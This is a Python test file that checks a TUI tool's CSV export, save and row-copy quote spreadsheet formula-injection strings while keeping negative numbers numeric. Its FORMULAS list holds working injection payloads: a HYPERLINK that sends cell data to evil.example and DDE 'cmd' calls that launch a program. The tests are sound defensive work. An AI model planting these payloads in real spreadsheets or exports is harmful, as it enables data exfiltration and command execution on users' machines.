"""CSV formula injection: sample strings a spreadsheet would run as a formula are written as text.

The hostile step is written as an attacker would (the project's writer, a
sample whose status and weight versions are formulas); its CSV comes out of
``export --format csv`` and the monitor's ctrl+s (``rows_csv_text``), which
must both quote them, and keep a negative reward a number.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from miles_tui.core.base.inert_text import inert
from miles_tui.core.commands.export import csv_cell, rows_csv
from miles_tui.core.dump import Run
from tests.conftest import EPOCH
from tests.security.test_mistyped_fields import _cli, _edit_sample, _run

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_quoted(text: str) -> None:
    assert csv_cell(text) == "'" + inert(text)  # tab and CR also shown as visible escapes


@pytest.mark.parametrize(
    ("value", "cell"), [(-1.5, "-1.5"), (-3, "-3"), (0.25, "0.25"), ("-1", "-1"), ("-2.5e3", "-2.5e3")]
)
def test_a_negative_number_stays_a_number(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_plain_text_is_unchanged() -> None:
    assert csv_cell("completed") == "completed" and csv_cell("v3") == "v3" and csv_cell(None) == ""


def _write_hostile_step(tmp_path: Path) -> tuple[Path, int]:
    root = _run(tmp_path)
    index = _edit_sample(root, 2, 3, status=FORMULAS[0], weight_versions=["1", FORMULAS[1]], reward=-1.5)
    return root, index


def _formula_cells(text: str) -> list[str]:
    """Every cell of a CSV that a spreadsheet would evaluate."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _is_number(c))]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_export_csv_and_the_monitor_save_quote_formulas(tmp_path: Path) -> None:
    from miles_tui.tui.views.clipboard import rows_csv_text

    root, index = _write_hostile_step(tmp_path)
    done = _cli("export", str(root), "--step", "2", "--format", "csv", cache=tmp_path / "cache")
    assert done.returncode == 0, done.stderr
    summary = Run(root, use_cache=False).summary(2, False, EPOCH)
    saved = rows_csv_text(list(summary.rows))
    for text in (done.stdout, saved):
        assert _formula_cells(text) == []
        rows = {r["sample_index"]: r for r in csv.DictReader(io.StringIO(text))}
        row = rows[str(index)]
        assert row["status"] == "'" + FORMULAS[0]
        assert row["weight_version"] == "'" + FORMULAS[1]
        assert row["reward"] == "-1.5"
    assert saved == done.stdout


def test_rows_csv_keeps_negative_numbers_of_a_real_step(tmp_path: Path) -> None:
    root, _ = _write_hostile_step(tmp_path)
    from miles_tui.core.commands.export import step_export

    document = step_export(Run(root, use_cache=False), 2, False, EPOCH)
    rows = list(csv.DictReader(io.StringIO(rows_csv(document))))
    negative = [r["adv_mean"] for r in rows if r["adv_mean"].startswith("-")]
    assert negative and all(_is_number(v) for v in negative)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_copied_row_quotes_formulas_too(text: str) -> None:
    """``y`` copies a row as TSV, which a spreadsheet reads when pasted: the same quoting as the CSV."""
    from miles_tui.tui.views.clipboard import _cell

    cell = _cell(text)
    assert cell.startswith("'") and "\t" not in cell and "\r" not in cell
    assert _cell(-1.5) == "-1.5" and _cell("-1.5") == "-1.5" and _cell("plain") == "plain"
